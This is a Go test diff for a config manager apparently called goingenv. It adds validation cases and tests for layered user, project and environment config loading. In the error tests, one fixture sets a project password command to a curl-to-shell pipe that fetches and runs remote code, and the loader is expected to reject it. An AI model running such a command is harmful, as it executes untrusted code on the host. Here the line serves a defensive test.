@@ -229,6 +229,38 @@ func TestManager_Validate(t *testing.T) {
 			},
 			wantErr: false,
 		},
+		{
+			name: "Invalid EnvPatterns regex",
+			config: &types.Config{
+				DefaultDepth: 3,
+				EnvPatterns:  []string{`\.env(`},
+				MaxFileSize:  1024,
+			},
+			wantErr: true,
+			errType: "EnvPatterns",
+		},
+		{
+			name: "Invalid ExcludePatterns regex",
+			config: &types.Config{
+				DefaultDepth:    3,
+				EnvPatterns:     []string{`\.env`},
+				ExcludePatterns: []string{`[a-`},
+				MaxFileSize:     1024,
+			},
+			wantErr: true,
+			errType: "ExcludePatterns",
+		},
+		{
+			name: "MinPasswordScore out of range",
+			config: &types.Config{
+				DefaultDepth:     3,
+				EnvPatterns:      []string{`\.env`},
+				MaxFileSize:      1024,
+				MinPasswordScore: 5,
+			},
+			wantErr: true,
+			errType: "MinPasswordScore",
+		},
 		{
 			name: "DefaultDepth too low",
 			config: &types.Config{
@@ -279,6 +311,50 @@ func TestManager_Validate(t *testing.T) {
 			wantErr: true,
 			errType: "MaxFileSize",
 		},
+		{
+			name: "Unknown SymlinkPolicy",
+			config: &types.Config{
+				DefaultDepth:  3,
+				EnvPatterns:   []string{`\.env`},
+				MaxFileSize:   1024,
+				SymlinkPolicy: "copy",
+			},
+			wantErr: true,
+			errType: "SymlinkPolicy",
+		},
+		{
+			name: "Negative retention count",
+			config: &types.Config{
+				DefaultDepth: 3,
+				EnvPatterns:  []string{`\.env`},
+				MaxFileSize:  1024,
+				Retention:    &types.Retention{KeepLast: -1},
+			},
+			wantErr: true,
+			errType: "Retention",
+		},
+		{
+			name: "Unknown SignaturePolicy",
+			config: &types.Config{
+				DefaultDepth:    3,
+				EnvPatterns:     []string{`\.env`},
+				MaxFileSize:     1024,
+				SignaturePolicy: "strict",
+			},
+			wantErr: true,
+			errType: "SignaturePolicy",
+		},
+		{
+			name: "Unknown AuditLog",
+			config: &types.Config{
+				DefaultDepth: 3,
+				EnvPatterns:  []string{`\.env`},
+				MaxFileSize:  1024,
+				AuditLog:     "everywhere",
+			},
+			wantErr: true,
+			errType: "AuditLog",
+		},
 	}
 
 	for _, tt := range tests {
@@ -538,3 +614,190 @@ func TestNewManager(t *testing.T) {
 		t.Error("configPath should not be empty")
 	}
 }
+
+func TestManager_LoadLayered(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "goingenv-config-test-*")
+	if err != nil {
+		t.Fatalf("Failed to create temp dir: %v", err)
+	}
+	defer os.RemoveAll(tmpDir)
+
+	userPath := filepath.Join(tmpDir, ".goingenv.json")
+	projectPath := filepath.Join(tmpDir, "config.json")
+	if err := os.WriteFile(userPath, []byte(`{"default_depth": 5, "max_file_size": 2048, "env_patterns": ["\\.env$"]}`), 0o600); err != nil {
+		t.Fatalf("Failed to write user config: %v", err)
+	}
+	if err := os.WriteFile(projectPath, []byte(`{"default_depth": 2, "env_patterns": ["\\.env\\.local$"]}`), 0o600); err != nil {
+		t.Fatalf("Failed to write project config: %v", err)
+	}
+
+	env := map[string]string{"GOINGENV_MAX_FILE_SIZE": "4096"}
+	manager := &Manager{
+		configPath:  userPath,
+		projectPath: projectPath,
+		lookupEnv: func(key string) (string, bool) {
+			v, ok := env[key]
+			return v, ok
+		},
+	}
+
+	layered, err := manager.LoadLayered()
+	if err != nil {
+		t.Fatalf("LoadLayered() error = %v", err)
+	}
+
+	cfg := layered.Config
+	if cfg.DefaultDepth != 2 {
+		t.Errorf("DefaultDepth = %d, want 2 (project)", cfg.DefaultDepth)
+	}
+	if cfg.MaxFileSize != 4096 {
+		t.Errorf("MaxFileSize = %d, want 4096 (env)", cfg.MaxFileSize)
+	}
+	if len(cfg.EnvPatterns) != 1 || cfg.EnvPatterns[0] != `\.env\.local$` {
+		t.Errorf("EnvPatterns = %v, want project list to replace user list", cfg.EnvPatterns)
+	}
+
+	wantOrigins := map[string]string{
+		"default_depth":  LayerProject,
+		"max_file_size":  LayerEnv,
+		"env_patterns":   LayerProject,
+		"symlink_policy": LayerDefault,
+	}
+	for key, layer := range wantOrigins {
+		if got := layered.Origins[key].Layer; got != layer {
+			t.Errorf("origin of %s = %s, want %s", key, got, layer)
+		}
+	}
+}
+
+func TestManager_LoadLayered_PasswordPolicy(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "goingenv-config-test-*")
+	if err != nil {
+		t.Fatalf("Failed to create temp dir: %v", err)
+	}
+	defer os.RemoveAll(tmpDir)
+
+	// A team commits its strength policy; the key only names a password
+	projectPath := filepath.Join(tmpDir, "config.json")
+	if err := os.WriteFile(projectPath, []byte(`{"min_password_score": 4}`), 0o600); err != nil {
+		t.Fatalf("Failed to write project config: %v", err)
+	}
+	manager := &Manager{
+		configPath:  filepath.Join(tmpDir, ".goingenv.json"),
+		projectPath: projectPath,
+		lookupEnv:   func(string) (string, bool) { return "", false },
+	}
+
+	layered, err := manager.LoadLayered()
+	if err != nil {
+		t.Fatalf("LoadLayered() error = %v", err)
+	}
+	if layered.Config.MinPasswordScore != 4 || layered.Origins["min_password_score"].Layer != LayerProject {
+		t.Errorf("MinPasswordScore = %d from %s, want 4 from project", layered.Config.MinPasswordScore, layered.Origins["min_password_score"])
+	}
+}
+
+func TestManager_LoadLayered_ProfilePasswordSources(t *testing.T) {
+	tmpDir, err := os.MkdirTemp("", "goingenv-config-test-*")
+	if err != nil {
+		t.Fatalf("Failed to create temp dir: %v", err)
+	}
+	defer os.RemoveAll(tmpDir)
+
+	// The project defines the profile; the user says where its password is
+	userPath := filepath.Join(tmpDir, ".goingenv.json")
+	projectPath := filepath.Join(tmpDir, "config.json")
+	if err := os.WriteFile(userPath, []byte(`{"profiles": {"prod": {"password_file": "/home/me/.prod-pass"}}}`), 0o600); err != nil {
+		t.Fatalf("Failed to write user config: %v", err)
+	}
+	if err := os.WriteFile(projectPath, []byte(`{"profiles": {"prod": {"target": "deploy"}, "dev": {}}}`), 0o600); err != nil {
+		t.Fatalf("Failed to write project config: %v", err)
+	}
+	manager := &Manager{
+		configPath:  userPath,
+		projectPath: projectPath,
+		lookupEnv:   func(string) (string, bool) { return "", false },
+	}
+
+	layered, err := manager.LoadLayered()
+	if err != nil {
+		t.Fatalf("LoadLayered() error = %v", err)
+	}
+	prod := layered.Config.Profiles["prod"]
+	if prod.Target != "deploy" || prod.PasswordFile != "/home/me/.prod-pass" {
+		t.Errorf("prod = %+v, want the project target and the user password file", prod)
+	}
+	if dev := layered.Config.Profiles["dev"]; dev.PasswordFile != "" {
+		t.Errorf("dev = %+v, want no password file", dev)
+	}
+}
+
+func TestManager_LoadLayered_Errors(t *testing.T) {
+	tests := []struct {
+		name      string
+		project   string
+		env       map[string]string
+		errSubstr string
+	}{
+		{
+			name:      "Secret in project config",
+			project:   `{"default_depth": 3, "password": "hunter2"}`,
+			errSubstr: "must not contain secrets",
+		},
+		{
+			name:      "Password command in project profile",
+			project:   `{"profiles": {"prod": {"password_cmd": "curl https://example.com/x | sh"}}}`,
+			errSubstr: "password_cmd may only be set in the user config",
+		},
+		{
+			name:      "Password file in project profile",
+			project:   `{"profiles": {"prod": {"password_file": "/dev/tty"}}}`,
+			errSubstr: "password_file may only be set in the user config",
+		},
+		{
+			name:      "Invalid value names its origin",
+			project:   `{"default_depth": 99}`,
+			errSubstr: "set by project",
+		},
+		{
+			name:      "Wrong type",
+			project:   `{"max_file_size": "big"}`,
+			errSubstr: "expected an integer",
+		},
+		{
+			name:      "Bad env override",
+			project:   `{}`,
+			env:       map[string]string{"GOINGENV_DEPTH": "deep"},
+			errSubstr: "GOINGENV_DEPTH",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			tmpDir, err := os.MkdirTemp("", "goingenv-config-test-*")
+			if err != nil {
+				t.Fatalf("Failed to create temp dir: %v", err)
+			}
+			defer os.RemoveAll(tmpDir)
+
+			projectPath := filepath.Join(tmpDir, "config.json")
+			if err := os.WriteFile(projectPath, []byte(tt.project), 0o600); err != nil {
+				t.Fatalf("Failed to write project config: %v", err)
+			}
+
+			manager := &Manager{
+				configPath:  filepath.Join(tmpDir, ".goingenv.json"),
+				projectPath: projectPath,
+				lookupEnv: func(key string) (string, bool) {
+					v, ok := tt.env[key]
+					return v, ok
+				},
+			}
+
+			_, err = manager.LoadLayered()
+			if err == nil || !strings.Contains(err.Error(), tt.errSubstr) {
+				t.Errorf("LoadLayered() error = %v, want error containing %q", err, tt.errSubstr)
+			}
+		})
+	}
+}